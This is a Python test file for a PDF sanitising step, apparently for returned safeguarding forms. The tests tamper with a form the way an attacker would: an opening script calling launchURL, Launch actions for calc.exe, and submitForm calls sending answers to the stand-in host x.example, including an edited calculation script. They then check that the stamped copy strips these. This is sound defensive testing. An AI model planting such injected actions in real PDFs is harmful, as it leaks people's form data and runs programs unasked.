"""A stamped copy is opened in Acrobat: nothing a sender added to the return may run there.

A return is altered as an attacker would (an opening script, a program to launch, a web link, a
form submission, a document script, an attached file, the form's own calculation edited), then
stamped; the stamped copy keeps the form's own scripts and nothing else that acts.
"""

from __future__ import annotations

import io
from pathlib import Path

import pikepdf
import pytest
from helpers.forms import REPO, fictional_return, write_return
from pypdf import PdfReader, PdfWriter
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject, TextStringObject

from cse_pdf.blank.live_scoring import EARLIER_RUNTIMES, runtime
from cse_pdf.blank.widgets import DATE_SCRIPTS, LEGACY_DATE_SCRIPTS
from cse_pdf.form.catalog import find_form
from cse_pdf.returned.read import read_form
from cse_pdf.stamp.stamped_copy import stamp

ACTION_TYPES = {"/GoTo", "/GoToR", "/GoToE", "/Launch", "/Thread", "/URI", "/Sound", "/Movie", "/Hide", "/Named",
                "/SubmitForm", "/ResetForm", "/ImportData", "/JavaScript", "/SetOCGState", "/Rendition", "/Trans",
                "/GoTo3DView", "/RichMediaExecute"}
RETURN = REPO / "samples" / "high-mupdf.pdf"  # a real MuPDF return, live scripts included


def action(kind: str, **entries: object) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind),
                             **{NameObject(f"/{k}"): v for k, v in entries.items()}})


def scripts_and_actions(pdf: bytes) -> tuple[list[str], list[str]]:
    """Every JavaScript text and every action type anywhere in the file."""
    reader = PdfReader(io.BytesIO(pdf))
    scripts, kinds = [], []
    seen: set[int] = set()

    def walk(obj: object, depth: int = 0) -> None:
        if depth > 60:
            return
        if hasattr(obj, "idnum"):
            if obj.idnum in seen:
                return
            seen.add(obj.idnum)
            obj = obj.get_object()
        if isinstance(obj, DictionaryObject):
            if obj.get("/S") in ACTION_TYPES:  # (a border style's /S is a dash pattern, not an action)
                kinds.append(str(obj.get("/S")))
            if obj.get("/S") == "/JavaScript":
                js = obj["/JS"].get_object()
                scripts.append(js.get_data().decode("latin-1") if hasattr(js, "get_data") else str(js))
            for k, v in obj.items():
                walk(v, depth + 1)
        elif isinstance(obj, ArrayObject):
            for v in obj:
                walk(v, depth + 1)

    walk(reader.trailer["/Root"])
    return scripts, kinds


def tampered(tmp_path: Path) -> Path:
    writer = PdfWriter(clone_from=PdfReader(RETURN))
    root = writer._root_object
    root[NameObject("/OpenAction")] = action("/JavaScript", JS=TextStringObject("app.launchURL('http://x.example');"))
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): action("/Launch", F=TextStringObject("calc.exe"))})
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): action("/URI", URI=TextStringObject("http://x.example"))})
    link = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
                             NameObject("/Rect"): ArrayObject([FloatObject(0)] * 4),
                             NameObject("/A"): action("/GoTo", D=ArrayObject([page.indirect_reference,
                                                                              NameObject("/Fit")]),
                                                      Next=action("/SubmitForm", F=TextStringObject("http://x.example")))})
    clip = DecodedStreamObject()
    clip.set_data(b"not really a file")
    attach = DictionaryObject({NameObject("/Type"): NameObject("/Annot"),
                               NameObject("/Subtype"): NameObject("/FileAttachment"),
                               NameObject("/Rect"): ArrayObject([FloatObject(0)] * 4),
                               NameObject("/FS"): DictionaryObject({NameObject("/EF"): DictionaryObject(
                                   {NameObject("/F"): writer._add_object(clip)})})})
    page[NameObject("/Annots")].append(writer._add_object(link))
    page[NameObject("/Annots")].append(writer._add_object(attach))
    root[NameObject("/Names")] = DictionaryObject({
        NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): ArrayObject([
            TextStringObject("x"), action("/JavaScript", JS=TextStringObject("this.submitForm('http://x.example');"))])}),
        NameObject("/EmbeddedFiles"): DictionaryObject({NameObject("/Names"): ArrayObject()}),
    })
    # The form's own calculation of the total, edited to send the answers away as well.
    edited = 0
    for annot in (a.get_object() for p in writer.pages for a in p.get("/Annots", [])):
        if annot.get("/T") == "total" and "/AA" in annot:
            annot["/AA"]["/C"].get_object()[NameObject("/JS")] = TextStringObject("this.submitForm('http://x.example');")
            edited += 1
    assert edited == 1
    path = tmp_path / "tampered.pdf"
    writer.write(path)
    return path


@pytest.mark.slow
def test_what_a_sender_added_is_gone_and_the_forms_own_scripts_stay(tmp_path: Path) -> None:
    path = tampered(tmp_path)
    before_scripts, before_kinds = scripts_and_actions(path.read_bytes())
    assert {"/Launch", "/URI", "/SubmitForm"} <= set(before_kinds)  # the attack is really in the file

    stamped = stamp(path).pdf
    scripts, kinds = scripts_and_actions(stamped)
    assert set(kinds) <= {"/JavaScript", "/GoTo"}
    assert not any("submitForm" in s or "launchURL" in s for s in scripts)
    own_scripts, _ = scripts_and_actions(stamp(RETURN).pdf)
    assert len(scripts) == len(own_scripts) - 1 and set(scripts) <= set(own_scripts)  # all but the edited one
    reader = PdfReader(io.BytesIO(stamped))
    assert "/OpenAction" not in reader.trailer["/Root"] and "/Names" not in reader.trailer["/Root"] or \
        not reader.trailer["/Root"]["/Names"]
    assert not any(a.get_object().get("/Subtype") == "/FileAttachment" for p in reader.pages
                   for a in p.get("/Annots", []))


def test_actions_are_found_in_bookmarks_and_on_field_groups(tmp_path: Path) -> None:
    """The places a viewer runs actions from besides the catalog, pages and page annotations."""
    writer = PdfWriter(clone_from=PdfReader(RETURN))
    root = writer._root_object
    bookmark = writer._add_object(DictionaryObject({NameObject("/Title"): TextStringObject("Open me"),
                                                    NameObject("/A"): action("/Launch", F=TextStringObject("x.exe"))}))
    root[NameObject("/Outlines")] = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Outlines"), NameObject("/First"): bookmark, NameObject("/Last"): bookmark}))
    groups = 0
    for field in (f.get_object() for f in root["/AcroForm"]["/Fields"]):
        for kid in (k.get_object() for k in field.get("/Kids", [])):
            if "/Kids" in kid and "/T" in kid:  # a radio group: its triggers live on the group
                kid[NameObject("/AA")] = DictionaryObject({NameObject("/K"): action(
                    "/JavaScript", JS=TextStringObject("this.submitForm('http://x.example');"))})
                groups += 1
    assert groups
    path = tmp_path / "more.pdf"
    writer.write(path)
    assert {"/Launch"} <= set(scripts_and_actions(path.read_bytes())[1])

    scripts, kinds = scripts_and_actions(stamp(path).pdf)
    assert set(kinds) <= {"/JavaScript", "/GoTo"}
    assert not any("submitForm" in s for s in scripts)


def test_the_values_of_a_tampered_return_are_still_read(tmp_path: Path) -> None:
    assert read_form(tampered(tmp_path)).values == read_form(RETURN).values


def test_a_return_from_a_real_viewer_keeps_every_script_when_stamped() -> None:
    own, _ = scripts_and_actions(RETURN.read_bytes())
    dates = [f for f in find_form("hillingdon-cse").fields if f.type == "date"]
    assert len(own) >= 2 * len(dates) + 4  # each date's two checks, and the calculated boxes
    stamped, _ = scripts_and_actions(stamp(RETURN).pdf)
    assert sorted(stamped) == sorted(own)


@pytest.mark.parametrize("made", ["today", "with the runtime before month names"])
def test_a_return_of_a_form_made_today_or_earlier_keeps_its_calculations(tmp_path: Path, made: str) -> None:
    spec = find_form("hillingdon-cse")
    path = write_return(tmp_path / "r.pdf", spec, fictional_return(spec, name="Ada Fictional", dob="01/02/2010",
                                                                   completed="03/04/2024"))
    if made != "today":  # swap today's runtime for the earlier one, as in copies still out with agencies
        earlier, today = runtime(EARLIER_RUNTIMES[0]), runtime()
        assert earlier != today
        with pikepdf.open(path, allow_overwriting_input=True) as pdf:
            swapped = 0
            for page in pdf.pages:
                for annot in page.get("/Annots", []):
                    calc = annot.get("/AA", {}).get("/C")
                    if calc is not None and "/JS" in calc:
                        js = calc.JS
                        text = js.read_bytes().decode("latin-1") if isinstance(js, pikepdf.Stream) else str(js)
                        calc.JS = pikepdf.String(text.replace(today, earlier))
                        swapped += 1
            assert swapped >= 3
            pdf.save(path)
    own, _ = scripts_and_actions(path.read_bytes())
    assert sum("cseShow" in s for s in own) >= 3
    stamped, _ = scripts_and_actions(stamp(path).pdf)
    assert sorted(stamped) == sorted(own)


def date_scripts(pdf: bytes) -> list[str]:
    return sorted(s for s in scripts_and_actions(pdf)[0] if s.startswith("AFDate_"))


def test_a_return_of_a_form_sent_before_the_date_scripts_lost_their_semicolon_keeps_them_when_stamped() -> None:
    """Blanks already out with agencies, and the samples, carry `AFDate_...("dd/mm/yyyy");`."""
    dates = [f for f in find_form("hillingdon-cse").fields if f.type == "date"]
    old = date_scripts(RETURN.read_bytes())
    assert set(old) == set(LEGACY_DATE_SCRIPTS) and len(old) == 2 * len(dates)  # really the old spelling
    assert date_scripts(stamp(RETURN).pdf) == old


def test_a_return_of_todays_form_keeps_its_date_scripts_when_stamped(tmp_path: Path) -> None:
    """Today's blanks carry the same scripts without the ";" (cse_pdf/blank/widgets.py, DATE_KEYSTROKE)."""
    from engines.mupdf_fill import fill_with_mupdf

    dates = [f for f in find_form("hillingdon-cse").fields if f.type == "date"]
    path = tmp_path / "return.pdf"
    fill_with_mupdf(REPO / "forms" / "hillingdon-cse.pdf", path,
                    {"agency.date_completed": "5/3/2024", "risk.drug_use": "2"}, scripts=True)
    new = date_scripts(path.read_bytes())
    assert set(new) == set(DATE_SCRIPTS) and len(new) == 2 * len(dates)
    stamped = stamp(path).pdf
    assert date_scripts(stamped) == new
    assert sorted(scripts_and_actions(stamped)[0]) == sorted(scripts_and_actions(path.read_bytes())[0])
